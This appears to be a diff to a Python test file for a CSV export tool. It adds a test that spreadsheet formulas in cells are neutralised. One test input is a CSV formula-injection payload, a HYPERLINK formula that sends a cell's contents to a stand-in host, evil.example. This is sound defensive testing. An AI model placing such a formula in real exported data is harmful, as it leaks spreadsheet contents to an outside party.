@@ -17,6 +17,7 @@ from maclineup.export import (
     make_full_table,
     make_metadata,
     make_table,
+    neutralise_formulas,
     read_parquet_metadata,
     split_source_columns,
     table_columns,
@@ -109,3 +110,14 @@ def test_the_csv_never_writes_scientific_notation() -> None:
     ds = load_dataset(DEFAULT_DATA_DIR)
     text = table_to_csv(make_full_table(ds.models, ds.cpi, 2024)).decode("utf-8")
     assert not re.search(r"(?<![\w.])-?\d+(?:\.\d+)?[eE][+-]?\d+(?![\w])", text)
+
+
+@pytest.mark.parametrize("cell", ['=HYPERLINK("https://evil.example/?leak="&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"])
+def test_csv_cells_that_would_run_as_formulas_are_neutralised(cell: str) -> None:
+    table = pd.DataFrame({"name": [cell, "iMac"], "price_usd": [-5.0, 1299.0]})
+    safe = neutralise_formulas(table)
+    assert safe.at[0, "name"] == "'" + cell and safe.at[1, "name"] == "iMac"
+    assert safe.at[0, "price_usd"] == -5.0, "numbers stay numbers"
+    if cell.isprintable():
+        back = pd.read_csv(io.BytesIO(table_to_csv(table)), keep_default_na=False)
+        assert back.at[0, "name"] == "'" + cell
